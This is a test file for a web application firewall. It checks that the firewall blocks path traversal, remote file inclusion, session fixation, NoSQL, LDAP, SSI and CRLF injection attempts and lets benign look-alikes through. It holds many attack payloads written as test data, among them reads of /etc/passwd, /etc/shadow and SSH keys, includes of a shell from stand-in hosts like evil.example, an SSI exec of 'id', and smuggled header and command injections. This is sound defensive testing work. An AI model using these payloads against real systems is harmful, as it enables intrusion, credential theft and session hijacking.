/**
 * Security filter: path traversal / LFI, RFI, and the smaller classes (session fixation, NoSQL,
 * LDAP, SSI, CRLF): hand-written attacks in the places they arrive, and benign near-misses that
 * must pass (relative links, paths in prose, posted code, URLs, multi-line text).
 */
// zod-openapi must extend zod before the config schema is built (as src/app.ts does first).
import "@hono/zod-openapi";
import { describe, expect, it } from "vitest";
import { edgeConfigSchema } from "../../src/lib/config/schema.ts";
import { evaluateRequest, type SecurityConfig } from "../../src/lib/waf/index.ts";

const DEFAULT: SecurityConfig = edgeConfigSchema.parse({ security: {} }).security;
const BROWSER =
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15";

function evaluate(url: string, init: { method?: string; headers?: Record<string, string>; body?: string } = {}) {
  return evaluateRequest(
    {
      method: init.method ?? "GET",
      url,
      headers: new Headers({ "user-agent": BROWSER, ...init.headers }),
      visitor: { ip: "203.0.113.7", country: "DE", asn: 3320 },
      body: init.body ?? null,
    },
    DEFAULT,
  );
}
const query = (value: string, name = "q") =>
  evaluate(`https://edge.test/search?${encodeURIComponent(name)}=${encodeURIComponent(value)}`);
const json = (body: unknown) =>
  evaluate("https://edge.test/v1/items", {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify(body),
  });
const form = (body: string) =>
  evaluate("https://edge.test/contact", {
    method: "POST",
    headers: { "content-type": "application/x-www-form-urlencoded" },
    body,
  });

describe("path traversal and local file inclusion", () => {
  it.each([
    ["../../../etc/passwd", "q"],
    ["..\\..\\..\\windows\\win.ini", "q"],
    ["..\\secret", "q"],
    ["..;/..;/WEB-INF/web.xml", "q"],
    ["....//....//etc/shadow", "q"],
    ["%2e%2e%2f%2e%2e%2fetc%2fhosts", "q"],
    ["%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini", "q"],
    ["0x2e0x2e/0x2e0x2e/0x2e0x2e/etc/passwd", "q"],
    // every dot and slash spelled 0x.., with no literal one left; old decoders' overlong forms
    ["0x2e0x2e0x2f0x2e0x2e0x2fetc0x2fshadow", "q"],
    ["..%f8%80%80%80%af..%f8%80%80%80%afetc%f8%80%80%80%afshadow", "q"],
    ["%fc%80%80%80%80%ae%fc%80%80%80%80%ae%fc%80%80%80%80%afetc%fc%80%80%80%80%afpasswd", "q"],
    // IIS: a continuation whose top bits it ignored, hex digits past f
    ["..%c1%1c..%c1%1cwinnt%c1%1cwin.ini", "q"],
    ["..%c1%pc..%c1%pcetc%c1%pcgroup", "q"],
    ["%2e%2e%bg%qf%2e%2e%bg%qfetc%bg%qfhosts", "q"],
    ["..\u2215..\u2215..\u2215etc\u2215passwd", "q"],
    ["/etc/passwd", "q"],
    ["/proc/self/environ", "q"],
    ["C:\\Windows\\win.ini", "q"],
    ["C:/xampp/apache/conf/httpd.conf", "q"],
    [".ssh/id_rsa", "path"],
    ["../.env", "q"],
    ["../templates/x", "file"],
    ["cat /etc/shadow", "code"],
    ["file:///etc/passwd", "url"],
    ["Li4vLi4vLi4vZXRjL3Bhc3N3ZA==", "q"],
    ["/var/log/apache2/access.log", "q"],
    ["dump.sql.gz", "q"],
    ["/../{FILE}", "q"],
    ["/./../etc", "q"],
    ["/.\\/\\.\\.\\/\\.\\.\\/\\.\\{FILE}", "q"],
    ["%25%5c..%25%5c..%25%5c..%25%5c..winnt/desktop.ini", "q"],
    ["L2V0Yy9wYXNzd2Q=", "q"],
    ["ZXRjL3NoYWRvdyUwMA==", "q"],
    ["/Program Files\\Apache Group\\Apache\\conf\\httpd.conf", "q"],
    ["/.rhosts", "q"],
    ["../users.db.php", "q"],
    ["/logs/pure-ftpd.log", "q"],
  ])("blocks %j in ?%s=", (value, name) => {
    // Another class may name it first (`cat /etc/shadow` is also a command, `file:///` also SSRF).
    expect(query(value, name).action).toBe("block");
  });

  it.each([
    "/.env",
    "/.git/config",
    "/app/.claude/settings.json",
    "/wp-content/debug.log",
    "/site.sql.zip",
    "/index.php.bak",
    "/@fs/etc/passwd",
  ])("blocks the URL path %s", (path) => {
    expect(evaluate(`https://edge.test${path}`).action).toBe("block");
  });

  it("blocks traversal in headers, upload file names and JSON", () => {
    expect(evaluate("https://edge.test/get", { headers: { "x-file": "/../../../etc/master.passwd" } }).action).toBe(
      "block",
    );
    const multipart =
      '--b1\r\nContent-Disposition: form-data; name="file"; filename="../../x.php"\r\nContent-Type: image/png\r\n\r\nPNG\r\n--b1--\r\n';
    expect(
      evaluate("https://edge.test/upload", {
        method: "POST",
        headers: { "content-type": "multipart/form-data; boundary=b1" },
        body: multipart,
      }).action,
    ).toBe("block");
    expect(json({ template: "../../../../etc/passwd%00.html" }).action).toBe("block");
  });

  it.each([
    "../images/a.png",
    "See [the guide](../docs/setup.md) and [API](../api/index.md).",
    "Edit /etc/hosts to point the domain at your machine",
    "~/.bashrc aliases",
    "/usr/local/bin is on PATH",
    "https://github.com/acme/app/blob/main/.env.example",
    "/usr/local/bin:/usr/bin",
    "C:\\Windows\\System32\\ls",
    "Install it under C:\\Program Files\\Acme and restart.",
    "Search...",
    "copy ..\\..\\config\\app.config.example ..\\..\\config\\app.config",
    "backup.tar.gz",
    "/account/settings",
    "C:\\Users\\me\\Documents\\cv.pdf",
    "Prix: 50% à l'entrée, 30% après. Voilà./Menu: café/thé",
    "0x2e is the code of '.', 0x2f of '/'",
  ])("lets %j through", (value) => {
    expect(query(value).action).toBe("allow");
    expect(json({ text: value }).action).toBe("allow");
  });

  // As path-traversal fuzzers send them: a climb unit repeated, then a system file, every
  // separator spelled the same odd way (no `.` or `/` in any decoder: read by the structure).
  it.each([
    "%c0%5e%c0%5e%c1%8s%c0%5e%c0%5e%c1%8s%c0%5e%c0%5e%c1%8setc%c1%8sgroup",
    "%c0%ae%c0%ae%c1%af%c0%ae%c0%ae%c1%afetc%c1%afshadow",
    ".%3F%bg%qf.%3F%bg%qf.%3F%bg%qfwindows%bg%qfwin.ini",
    "%3F%3F%c0%9v%3F%3F%c0%9vwinnt%c0%9vsystem32%c0%9vdrivers%c0%9vetc%c0%9vhosts",
    "0x2e0x2e%c1%af0x2e0x2e%c1%af0x2e0x2e%c1%afboot.ini",
    "%e0%80%ae%e0%80%ae%c1%pc%e0%80%ae%e0%80%ae%c1%pcetc%c1%pcissue",
    // encoded once more: the structure is read after decoding too
    "%25c0%255e%25c0%255e%25c1%258s%25c0%255e%25c0%255e%25c1%258setc%25c1%258spasswd",
  ])("blocks the repeated climb ?file=%s", (raw) => {
    const decision = evaluate(`https://edge.test/download?file=${raw}`);
    expect(decision.action).toBe("block");
    expect(decision.class).toBe("traversal");
    expect(form(`name=${raw}`).action).toBe("block");
  });

  it.each([
    // the same parts without a repeated junk unit, or with a different separator inside the path
    "etc%c1%afpasswd",
    "hello%c1%afhello%c1%afetc%c1%afpasswd",
    "issues%20and%20hosts",
    "--%20--%20my.ini",
  ])("lets ?q=%s through", (raw) => {
    expect(evaluate(`https://edge.test/search?q=${raw}`).action).toBe("allow");
  });

  // A site's own config or log file named alone is a link or a search, not a read of it
  // (the WAF Payload Collection counts these as false positives); as a file to load, or with a
  // climb or a system path, it blocks.
  it.each(["db.php", "/config.asp", "logs/access.log", "settings.inc"])("lets ?q=%s through", (value) => {
    expect(query(value).action).toBe("allow");
    expect(form(`note=${encodeURIComponent(value)}`).action).toBe("allow");
  });
  it.each([
    ["db.php", "file"],
    ["../db.php", "q"],
    ["/var/www/html/db.php", "q"],
    ["logs/access.log", "page"],
  ])("blocks %j in ?%s=", (value, name) => {
    expect(query(value, name).action).toBe("block");
  });

  it.each([
    "/.well-known/security.txt",
    "/jquery.history.min.js",
    "/files/backup.tar.gz",
    "/api/continue/session",
    "/get/foo.../1234",
  ])("lets the URL path %s through", (path) => {
    expect(evaluate(`https://edge.test${path}`).action).toBe("allow");
  });
});

describe("remote file inclusion", () => {
  it.each([
    ["http://198.51.100.7/shell.txt?", "page"],
    ["https://foo.example?", "x"],
    ["http?", "x"],
    ["https://evil.example/c99.php", "include"],
    ["https://foo.example", "mosConfig_absolute_path"],
    ["https://foo.example", "_CONF[path]"],
    ["https://[2001:db8::1]/x.php", "src"],
  ])("blocks %j in ?%s=", (value, name) => {
    expect(query(value, name).action).toBe("block");
  });

  it.each([
    ["https://example.com/articles/42", "next"],
    ["https://cdn.example.com/img/a.png", "image"],
    ["https://foo.example/?a=1", "url"],
  ])("lets %j in ?%s= through", (value, name) => {
    expect(query(value, name).action).toBe("allow");
  });
});

describe("session fixation, NoSQL, LDAP, SSI and CRLF", () => {
  it.each([
    ['blah<script>document.cookie="sessionid=1234; domain=.example.dom";</script>', "fixation"],
    [".cookie;expires=", "fixation"],
    ['<meta http-equiv="Set-Cookie" content="sid=1">', "fixation"],
    ["*)(uid=*))(|(uid=*", "ldap"],
    ["admin*)((|userpassword=*)", "ldap"],
    ["admin)(&)", "ldap"],
    ["*(|(objectclass=*))", "ldap"],
    ['<!--#exec cmd="id"-->', "ssi"],
    ['<!--#include virtual="/etc/passwd"-->', "ssi"],
    ['<esi:include src="http://evil.example/x"/>', "ssi"],
    ["en\r\nSet-Cookie: sid=attacker", "crlf"],
    ["%0d%0aLocation: https://evil.example", "crlf"],
    ["x\u560a\u560dSet-Cookie: a=b", "crlf"],
    ["', $where: 'sleep(1000)'", "nosql"],
    ['{"$gt": ""}', "nosql"],
    ["' && this.password.match(/.*/)//", "nosql"],
    ["1; return this.role == 'admin'", "nosql"],
    ["|| 1==1", "nosql"],
    ["*()|&'", "ldap"],
    ["(*)*)", "ldap"],
    // an attribute test left open for the application's own value and `)`
    ["*)(objectClass=", "ldap"],
    ["admin)(uid=", "ldap"],
    ["count(/child::node())", "ldap"],
    ["') ] | //user/*[contains(*,'", "ldap"],
  ])("blocks %j (%s)", (value) => {
    expect(query(value).action).toBe("block");
  });

  it("blocks operators in argument names and JSON keys, and CRLF in the path", () => {
    expect(evaluate("https://edge.test/login?user=admin&password[$ne]=x")).toMatchObject({
      action: "block",
      class: "nosql",
    });
    expect(json({ username: "admin", password: { $ne: null } })).toMatchObject({ action: "block", class: "nosql" });
    expect(json({ q: { $where: "this.a == 1" } }).action).toBe("block");
    expect(evaluate("https://edge.test/%0d%0aSet-Cookie:crlf=injection").action).toBe("block");
    expect(form("next=en%0D%0AX-Injected%3A%201&submit=Send").action).toBe("block");
  });

  it.each([
    "(see above)(and more)",
    "(see above)(mail=",
    "foo)(bar=",
    "(&(objectClass=user)(|(mail=*@example.com)(department=Sales)))",
    "Footnote (*)",
    '<!--#include virtual="/includes/header.html" -->',
    "<!-- #section -->",
    "Hola:\n\nDrop-shipping: ¿alguien ha trabajado con proveedores?\n\nUn saludo",
    "Name: Ana\nLocation: Berlin\nRole: admin",
    "db.orders.find({ total: { $gt: 100 } })",
    "Price is $100 (or $90 with the code)",
    "It's true that 'a' == 'a'",
    "count(items) should equal 3",
    "Use the child::node() axis in XPath 1.0 (see the spec)",
    "a | b [c]",
    "(*)",
  ])("lets %j through", (value) => {
    expect(json({ text: value }).action).toBe("allow");
  });

  it("reads a quote and `;` ending one line of a posted code text, and a statement on the next, as code", () => {
    const intro =
      "Here is how the README sets it up, in case someone runs into the same question about the mappings and the asset manifest:\n\n";
    for (const code of [
      "import { encode, decode } from '@jridgewell/sourcemap-codec';\nvar decoded = decode(mappings);",
      'manifest["index.html"] = "index.special.html";\nreturn getAssetFromKV(request, { mapRequestToAsset });',
      "var CRLF = '\\r\\n';\nvar form = new FormData();",
    ]) {
      const text = `${intro}${code}\n\n${intro}`;
      expect(json({ text }).action, code).toBe("allow");
    }
    // On one line, across lines in a short field, or in a parameter, the breakout is still one.
    expect(json({ password: "'; return true; var x='" })).toMatchObject({ action: "block", class: "nosql" });
    expect(json({ password: "x'\n;var z=1//" })).toMatchObject({ action: "block", class: "nosql" });
    // `||` and `&&` continue an expression across lines, in a long text too.
    for (const tail of ["x'||\ntrue||'", "'||\nthis.password.match(/^a/)||'"])
      expect(json({ text: `${intro}${tail}${intro}` }), tail).toMatchObject({ action: "block", class: "nosql" });
    expect(query("x';\nvar y = 1")).toMatchObject({ action: "block", class: "nosql" });
  });

  it("splits headers in a body value only right after its first line", () => {
    // A document pasted after a blank line: a config's `host:` and markup after a blank line are its text.
    const pasted =
      '\n```javascript\nconst redis = new Redis({\n  host: "localhost",\n  port: 6379,\n});\n```\n\n<details><summary>TLS</summary>\n\nSee below.\n</details>';
    expect(json({ text: pasted }).action).toBe("allow");
    expect(json({ text: "Hello\n\nThanks for the quick reply!\n\n<b>Ana</b>" }).action).toBe("allow");
    for (const value of [
      "\r\nSet-Cookie: sid=attacker",
      "\r\n\r\nSet-Cookie: sid=attacker",
      "/home\r\nLocation: https://evil.example",
    ])
      expect(json({ next: value }), JSON.stringify(value)).toMatchObject({ action: "block", class: "crlf" });
    expect(json({ lang: "en\r\n\r\n<img src=x>" })).toMatchObject({ action: "block", class: "crlf" });
    // The whole header block after the first line counts: a harmless header first hides nothing.
    for (const value of [
      "en\r\nVary: Accept\r\nSet-Cookie: sid=attacker; Path=/",
      "en\r\nX: 1\r\nLocation: https://evil.example/",
    ])
      expect(json({ lang: value }), JSON.stringify(value)).toMatchObject({ action: "block", class: "crlf" });
  });

  it("keeps a long value's first sentence when a line break ends it", () => {
    const sentence =
      "This is a long sentence about the delivery of my order which arrived late and the box was damaged on one side so I would like to ask for a refund or a replacement as soon as you can manage it please and thank you very much for your help with this matter.";
    expect(json({ text: `${sentence}\nSet-Cookie: session=attacker` })).toMatchObject({
      action: "block",
      class: "crlf",
    });
    expect(json({ host: `${" ".repeat(260)}127.0.0.1\nid` })).toMatchObject({ action: "block", class: "command" });
  });

  it("reads a body value that opens with a markdown code fence as a document", () => {
    // A README section pasted from the end of a code block: the fence, a blank line, an anchor.
    for (const text of [
      '```\n\n<a name="ipaddrSubnetMatch"></a>\n### `addr.match(range)`\n\nChecks the address against a range.',
      "```js\n\n<br>\n\n## Philosophies",
    ])
      expect(json({ text }).action, text).toBe("allow");
    // A fence does not hide a header line right after it.
    for (const next of [
      "```\r\nSet-Cookie: sid=attacker",
      "```\r\nLocation: https://attacker.example/",
      "```js\nRefresh: 0; url=https://attacker.example/",
    ])
      expect(json({ next }), next).toMatchObject({ action: "block", class: "crlf" });
  });

  it("lets Strapi-style filter parameters, JSON Schema keys and session cookies through", () => {
    expect(evaluate("https://edge.test/api/articles?filters[title][$eq]=hello").action).toBe("allow");
    expect(json({ $schema: "https://json-schema.org/draft/2020-12/schema", $id: "x", $ref: "#/a" }).action).toBe(
      "allow",
    );
    expect(
      evaluate("https://edge.test/account", { headers: { cookie: "PHPSESSID=abc123; JSESSIONID=def456" } }).action,
    ).toBe("allow");
  });
});
